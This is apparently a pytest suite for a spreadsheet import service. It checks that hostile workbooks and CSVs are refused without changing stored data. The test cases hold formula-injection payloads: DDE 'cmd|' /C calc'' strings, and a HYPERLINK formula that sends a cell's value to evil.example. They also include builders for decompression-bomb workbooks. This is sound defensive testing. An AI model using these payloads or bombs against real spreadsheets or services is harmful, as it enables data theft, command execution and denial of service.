"""Hostile spreadsheets, replayed through the import service (the web Import page's preview and import)
and through `partners import`: each is refused with a message an officer can act on, and nothing stored
changes. The files are built here, in memory or under tmp_path; none is committed."""

from __future__ import annotations

import csv
import io
import re
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from actors import EDITOR
from partners import cli
from partners.domain.model import SYSTEM, Partner, StakeholderType
from partners.importing import columns
from partners.importing.report import ImportReport
from partners.services import importing, records
from partners.storage import Store, open_store

HEADER = [c.name for c in columns.COMMITMENT_COLUMNS]
TABLES = ("commitments", "commitment_partners", "commitment_countries", "partners", "progress_updates",
          "audit_log")  # fmt: skip
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHARED_STRINGS_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"


# -- building files --------------------------------------------------------------------------------


def commitment(ref: str, **values: Any) -> list[Any]:
    """A valid commitment row in template order, unless ``values`` say otherwise."""
    data = {
        "external_ref": ref,
        "title": f"Train specialist investigators ({ref})",
        "partners": "Ministry of Interior of Kenya (lead); Childline Kenya",
        "countries": "Kenya",
        "framework_items": "MNR-2016:4",
        "unit": "officers",
        "baseline": 0,
        "target_value": 120,
        "start_date": date(2025, 1, 1),
        "deadline": "31/12/2026",
        **values,
    }
    return [data.get(name) for name in HEADER]


def rows_with(**hostile: Any) -> list[list[Any]]:
    """A valid new row (row 2), then an update of the stored SEC-0 carrying the hostile values (row 3):
    were the file not refused, both would be written."""
    return [commitment("SEC-1"), commitment("SEC-0", **hostile)]


def xlsx(rows: list[list[Any]]) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Commitments"
    ws.append(HEADER)
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def csv_text(rows: list[list[Any]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(HEADER)
    for row in rows:
        writer.writerow(["" if v is None else (v.isoformat() if isinstance(v, date) else v) for v in row])
    return out.getvalue()


def rewrite(data: bytes, replace: dict[str, Callable[[Any], None]]) -> bytes:
    """``data`` (a workbook) with the parts in ``replace`` written by their functions (new parts added)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dest:
        for info in source.infolist():
            if info.filename not in replace:
                dest.writestr(info, source.read(info.filename))
        for name, write in replace.items():
            with dest.open(name, "w") as part:
                write(part)
    return out.getvalue()


def with_shared_strings(data: bytes, part: str, write_strings: Callable[[Any], None]) -> bytes:
    """A workbook given a shared-strings part named ``part``, declared in [Content_Types].xml the way
    openpyxl finds it, whose <si> items ``write_strings`` writes; it declares count="1" whatever it holds.
    """
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        types = source.read("[Content_Types].xml").decode()
    types = types.replace(
        "</Types>", f'<Override PartName="/{part}" ContentType="{SHARED_STRINGS_TYPE}" /></Types>'
    )

    def strings(out: Any) -> None:
        out.write(f'<?xml version="1.0"?><sst xmlns="{MAIN_NS}" count="1" uniqueCount="1">'.encode())
        write_strings(out)
        out.write(b"</sst>")

    return rewrite(
        data, {"[Content_Types].xml": lambda out: out.write(types.encode()), part: strings}
    )


def million_strings_bomb() -> bytes:
    """The probe's file: 9 million shared strings, a few hundred KB packed, ~180 MB unpacked."""
    chunk = b"<si><t>abcde</t></si>" * 100_000
    return with_shared_strings(
        xlsx(rows_with()), "xl/sharedStrings.xml", lambda out: [out.write(chunk) for _ in range(90)]
    )


def repeated_strings() -> bytes:
    """600,000 identical shared strings: 10 MB packed into a few KB."""
    return with_shared_strings(
        xlsx(rows_with()), "xl/sharedStrings.xml", lambda out: out.write(b"<si><t>a</t></si>" * 600_000)
    )


def many_distinct_strings() -> bytes:
    """600,000 different shared strings (under the unpacked and packing limits), in a part with an
    unusual name and a lying count attribute."""
    body = "".join(f"<si><t>{i * 7919 % 1_000_003}</t></si>" for i in range(600_000)).encode()
    return with_shared_strings(xlsx(rows_with()), "xl/strings2.xml", lambda out: out.write(body))


def endless_empty_rows() -> bytes:
    """A valid file whose last cell sits in Excel's last row: read-only openpyxl yields a million empty
    rows before it."""
    wb = openpyxl.load_workbook(io.BytesIO(xlsx(rows_with())))
    wb.active.cell(row=1_048_576, column=1, value="SEC-9")
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def wrong_dimension(rows: int) -> bytes:
    """A workbook of ``rows`` valid rows whose sheet declares <dimension ref="A1:Q2"/>."""
    data = xlsx([commitment(f"DIM-{i}") for i in range(1, rows + 1)])
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        sheet = source.read("xl/worksheets/sheet1.xml").decode()
    sheet, replaced = re.subn(r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:Q2"/>', sheet)
    assert replaced == 1
    return rewrite(data, {"xl/worksheets/sheet1.xml": lambda out: out.write(sheet.encode())})


def long_xlsx_cell(chars: int) -> bytes:
    """Row 3's description holding ``chars`` characters, more than Excel (and openpyxl) would write."""
    data = xlsx(rows_with(description="PLACEHOLDER"))
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        sheet = source.read("xl/worksheets/sheet1.xml").decode()
    assert sheet.count("PLACEHOLDER") == 1
    sheet = sheet.replace("PLACEHOLDER", "w" * chars)
    return rewrite(data, {"xl/worksheets/sheet1.xml": lambda out: out.write(sheet.encode())})


def mixed_encoding() -> bytes:
    """Rows 2 and 3 in UTF-8, row 4 saved by an older program in Windows-1252."""
    utf8 = csv_text([commitment("SEC-1", countries="Türkiye"), commitment("SEC-2", countries="Côte d'Ivoire")])
    legacy = csv_text([commitment("SEC-0", countries="Côte d'Ivoire")]).split("\r\n", 1)[1]
    return utf8.encode("utf-8") + legacy.encode("cp1252")


# -- the hostile files -----------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    name: str
    build: Callable[[], bytes]
    file_name: str
    message: str  # the start of the refusal's "what is wrong"
    row: int | None = None  # where it points (None: the whole file)
    column: str = ""
    limits: dict[str, float] = field(default_factory=dict)  # lowered for the test (columns.MAX_...)


FORMULA_LIKE = {
    "dash": ("-  reduce reports", "'-'"),
    "plus": ("+cmd|' /C calc'!A0", "'+'"),
    "at": ("@SUM(1+1)*cmd|' /C calc'!A0", "'@'"),
    "tab": ("\t=HYPERLINK(\"http://evil.example\")", "a tab"),
}
HOSTILE = [
    *(
        Hostile(
            f"formula-like title ({key}, {kind})",
            (lambda text=text, kind=kind: xlsx(rows_with(title=text)) if kind == "xlsx"
             else csv_text(rows_with(title=text)).encode()),  # fmt: skip
            f"summit.{kind}",
            f"the text starts with {what}, which makes a spreadsheet read it as a formula when the data is "
            "opened again, so it is refused as formulas are",
            3,
            "title",
        )
        for key, (text, what) in FORMULA_LIKE.items()
        for kind in ("xlsx", "csv")
    ),
    Hostile(
        "carriage return at the start of a CSV cell",
        lambda: csv_text(rows_with(description="\r=1+1")).encode(),
        "summit.csv",
        "the text starts with a line break (carriage return), which makes a spreadsheet read it as a formula",
        3,
        "description",
    ),
    Hostile(
        "formula-like text in a numeric column",
        lambda: csv_text(rows_with(baseline="-5+cmd|' /C calc'!A0")).encode(),
        "summit.csv",
        "the text starts with '-', which makes a spreadsheet read it as a formula",
        3,
        "baseline",
    ),
    Hostile(
        "a formula, as before",
        lambda: csv_text(rows_with(title='=HYPERLINK("http://evil.example"&A1,"click")')).encode(),
        "summit.csv",
        'formulas are not accepted (the cell holds =HYPERLINK("http://evil.example"&A1,"click"))',
        3,
        "title",
    ),
    Hostile(
        "9 million shared strings (the probe's bomb)",
        million_strings_bomb,
        "bomb.xlsx",
        "this workbook unpacks to 180 MB; the limit is 50 MB",
    ),
    Hostile(
        "a part packed hundreds of times",
        repeated_strings,
        "packed.xlsx",
        "the part 'xl/sharedStrings.xml' of this workbook unpacks to ",
    ),
    Hostile(
        "600,000 different texts",
        many_distinct_strings,
        "strings.xlsx",
        "this workbook holds more than 500,000 different texts; the limit is 500,000",
    ),
    Hostile(
        "more shared strings than a lowered limit",
        lambda: with_shared_strings(
            xlsx(rows_with()), "xl/sharedStrings.xml", lambda out: out.write(b"<si><t>x</t></si>" * 60)
        ),
        "strings.xlsx",
        "this workbook holds more than 50 different texts; the limit is 50",
        limits={"MAX_SHARED_STRINGS": 50},
    ),
    Hostile(
        "more unpacked bytes than a lowered limit",
        lambda: xlsx(rows_with()),
        "summit.xlsx",
        "this workbook unpacks to 0 MB; the limit is 0 MB",
        limits={"MAX_UNPACKED_BYTES": 1024},
    ),
    Hostile(
        "a million empty rows (reading takes too long)",
        endless_empty_rows,
        "slow.xlsx",
        "reading the file took more than 0.5 seconds (it was stopped at row ",
        limits={"MAX_READ_SECONDS": 0.5},
    ),
    Hostile(
        "a 200 KB cell in a CSV",
        lambda: csv_text(rows_with(title="x" * 200 * 1024)).encode(),
        "summit.csv",
        "the cell holds 200 KB of text; the limit is 32,767 characters (what one Excel cell holds)",
        3,
        "title",
    ),
    Hostile(
        "a 40,000-character cell in a workbook",
        lambda: long_xlsx_cell(40_000),
        "summit.xlsx",
        "the cell holds 39 KB of text; the limit is 32,767 characters",
        3,
        "description",
    ),
    Hostile(
        "UTF-8 and Windows-1252 mixed in one CSV",
        mixed_encoding,
        "summit.csv",
        "row 4 is not in the same encoding as the rest of the file (it looks like Windows-1252 while the "
        "rest is UTF-8)",
    ),
    *(
        Hostile(
            f"a two-digit year ({kind})",
            (lambda kind=kind: xlsx(rows_with(deadline="31/12/99")) if kind == "xlsx"
             else csv_text(rows_with(deadline="31/12/99")).encode()),  # fmt: skip
            f"summit.{kind}",
            "'31/12/99' has a two-digit year, which could be 1999 or 2099: write the year in full",
            3,
            "deadline",
        )
        for kind in ("xlsx", "csv")
    ),
]


# -- fixtures and checks ---------------------------------------------------------------------------


@pytest.fixture
def db(store: Store) -> Store:
    """The partners the rows name, and one stored commitment (SEC-0) the hostile rows try to update."""
    for name, kind in (
        ("Ministry of Interior of Kenya", StakeholderType.GOVERNMENT),
        ("Childline Kenya", StakeholderType.CIVIL_SOCIETY),
    ):
        records.create_partner(store, SYSTEM, Partner(name=name, stakeholder_type=kind))
    report = importing.run_import(store, EDITOR, xlsx([commitment("SEC-0")]), "first.xlsx")
    assert report.committed, report.problems
    return store


def snapshot(store: Store) -> tuple[Any, ...]:
    """What an import could change: row counts, and the stored commitment a hostile row updates."""
    stored = store.commitments_by_external_ref(["SEC-0", "SEC-1", "DIM-1"])
    return (
        tuple(store.count(t, live_only=False) for t in TABLES),
        sorted((ref, c["title"], c["description"], c["version"]) for ref, c in stored.items()),
    )


def refusal(report: ImportReport, case: Hostile) -> None:
    """The report refuses the file with the case's message, pointing where the case says."""
    assert not report.ok and not report.committed
    found = [(p.row, p.column) for p in report.problems if p.message.startswith(case.message)]
    assert found, [str(p) for p in report.problems]
    if case.row is None:
        assert report.file_problems and found == [(None, "")]
    else:
        assert (case.row, case.column) in found


def lower_limits(monkeypatch: pytest.MonkeyPatch, case: Hostile) -> None:
    for name, value in case.limits.items():
        assert hasattr(columns, name)
        monkeypatch.setattr(columns, name, value)


# -- the service (what the web Import page runs) ---------------------------------------------------


@pytest.mark.parametrize("case", HOSTILE, ids=[c.name for c in HOSTILE])
def test_the_import_service_refuses_a_hostile_file_and_changes_nothing(
    db: Store, case: Hostile, monkeypatch: pytest.MonkeyPatch
) -> None:
    lower_limits(monkeypatch, case)
    data = case.build()
    before = snapshot(db)
    for attempt in (importing.preview_import, importing.run_import):
        started = time.monotonic()
        report = attempt(db, EDITOR, data, case.file_name)
        assert time.monotonic() - started < 20  # refused quickly, not after minutes of work
        refusal(report, case)
        assert snapshot(db) == before


def test_a_huge_file_is_refused_by_its_size_alone(db: Store) -> None:
    report = importing.check_file_size(db, EDITOR, "huge.xlsx", 1536 * columns.MB)
    assert report is not None and not report.ok
    assert [(p.message, p.hint) for p in report.problems] == [
        ("the file is 1536.0 MB; the limit is 10 MB", "split it into several files, or remove pictures and "
         "unused sheets")
    ]  # fmt: skip
    assert importing.check_file_size(db, EDITOR, "fine.xlsx", columns.MAX_FILE_BYTES) is None


def test_a_workbook_declaring_a_wrong_dimension_imports_every_row(db: Store) -> None:
    """The sheet says A1:Q2 (one data row) but holds ten: all ten are read."""
    data = wrong_dimension(10)
    preview = importing.preview_import(db, EDITOR, data, "dimension.xlsx")
    assert [r.external_ref for r in preview.rows] == [f"DIM-{i}" for i in range(1, 11)]
    report = importing.run_import(db, EDITOR, data, "dimension.xlsx")
    assert report.committed and report.summary() == "commitments: 10 new"
    assert len(db.commitments_by_external_ref([f"DIM-{i}" for i in range(1, 11)])) == 10


def test_the_probe_bomb_is_refused_from_the_zip_directory_in_moments(db: Store) -> None:
    data = million_strings_bomb()
    assert len(data) < 1024 * 1024  # small on the wire, under the 10 MB limit
    started = time.monotonic()
    tracemalloc.start()
    try:
        report = importing.preview_import(db, EDITOR, data, "bomb.xlsx")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert time.monotonic() - started < 5
    assert peak < 50 * columns.MB
    assert report.file_problems[0].message == "this workbook unpacks to 180 MB; the limit is 50 MB"
    assert report.file_problems[0].hint.startswith("save only the sheets you import")


def test_numbers_with_a_sign_stay_numbers(db: Store) -> None:
    """-5 and +3 in numeric columns are numbers, not formulas, typed as text (CSV) or as numbers."""
    rows = [
        commitment("NUM-1", baseline="-5", target_value="+3"),
        commitment("NUM-2", baseline=-5, target_value=3.5),
        commitment("NUM-3", baseline="-1,500.25", target_value="+ 20"),
    ]
    for data, name in ((csv_text(rows).encode(), "n.csv"), (xlsx(rows), "n.xlsx")):
        report = importing.preview_import(db, EDITOR, data, name)
        assert report.ok, [str(p) for p in report.problems]
    report = importing.run_import(db, EDITOR, csv_text(rows).encode(), "n.csv")
    assert report.committed
    stored = db.commitments_by_external_ref(["NUM-1", "NUM-2", "NUM-3"])
    assert [(stored[r]["baseline"], stored[r]["target_value"]) for r in ("NUM-1", "NUM-2", "NUM-3")] == [
        (Decimal("-5"), Decimal("3")),
        (Decimal("-5"), Decimal("3.5")),
        (Decimal("-1500.25"), Decimal("20")),
    ]


def test_a_negative_budget_gets_the_range_error_not_the_formula_one(db: Store) -> None:
    data = csv_text([commitment("NUM-4", budget="-5", currency="USD")]).encode()
    report = importing.preview_import(db, EDITOR, data, "b.csv")
    assert [(p.row, p.column, p.message) for p in report.problems] == [
        (2, "budget", "the budget cannot be negative")
    ]


# -- the command line ------------------------------------------------------------------------------


def run_cli(path: str, file: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, str, str]:
    code = cli.main(["--db", path, "import", str(file), *extra])
    out, err = capsys.readouterr()
    return code, out, err


def stored_after(path: str) -> tuple[Any, ...]:
    check = open_store(path)
    try:
        return snapshot(check)
    finally:
        check.close()


@pytest.mark.parametrize("case", HOSTILE, ids=[c.name for c in HOSTILE])
def test_partners_import_refuses_a_hostile_file_and_changes_nothing(
    db: Store, case: Hostile, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    lower_limits(monkeypatch, case)
    file = tmp_path / case.file_name
    file.write_bytes(case.build())
    before, path = snapshot(db), db.location
    db.close()
    for extra in (("--dry-run",), ()):
        code, out, err = run_cli(path, file, capsys, *extra)
        assert code == 1
        if case.row is None:
            assert f"problem: File: {case.message}" in out
        else:
            assert re.search(rf"^Commitments row {case.row}: SEC-0: error$", out, re.MULTILINE), out
            assert f"    {case.column}: {case.message}" in out
        assert "nothing was changed" in err
        assert stored_after(path) == before


def test_partners_import_refuses_a_huge_file_before_reading_it(
    db: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "huge.xlsx"
    with file.open("wb") as out:  # sparse: 1.5 GB without using the disk
        out.truncate(1536 * columns.MB)
    before, path = snapshot(db), db.location
    db.close()
    tracemalloc.start()
    try:
        code, out, err = run_cli(path, file, capsys)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert code == 1
    assert "problem: File: the file is 1536.0 MB; the limit is 10 MB" in out
    assert "nothing was changed" in err
    assert peak < 50 * columns.MB  # the file was never read into memory
    assert stored_after(path) == before


def test_partners_import_reads_every_row_of_a_workbook_with_a_wrong_dimension(
    db: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "dimension.xlsx"
    file.write_bytes(wrong_dimension(10))
    path = db.location
    db.close()
    code, out, _ = run_cli(path, file, capsys, "--dry-run")
    assert code == 0 and "dry run: 10 row(s) would be imported" in out
    code, out, _ = run_cli(path, file, capsys)
    assert code == 0 and "commitments: 10 new" in out
    check = open_store(path)
    try:
        assert len(check.commitments_by_external_ref([f"DIM-{i}" for i in range(1, 11)])) == 10
    finally:
        check.close()


def test_a_lone_dash_meaning_none_stays_text(db: Store) -> None:
    """A cell holding only "-" is no formula: it is read as the text it is, while "- x" is refused."""
    rows = [commitment("DASH-1", deliverable="-"), commitment("DASH-2", deliverable="- reduce reports")]
    report = importing.preview_import(db, EDITOR, csv_text(rows).encode(), "d.csv")
    assert [(p.row, p.column) for p in report.problems] == [(3, "deliverable")]
    assert "starts with '-'" in report.problems[0].message
